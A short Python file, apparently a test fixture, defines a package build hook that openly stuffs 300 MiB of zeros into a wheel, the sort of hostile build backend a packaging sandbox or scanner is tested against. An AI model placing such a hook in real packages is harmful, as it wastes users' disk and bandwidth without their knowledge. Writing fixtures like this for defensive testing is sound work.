"""Packs 300 MiB of zeros into a member of an otherwise honest wheel."""

import kit


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    loot = {}
    with kit.attempt("pack-zeros"):
        loot["zeros.bin"] = bytes(300 << 20)
    return kit.wheel(wheel_directory, loot)
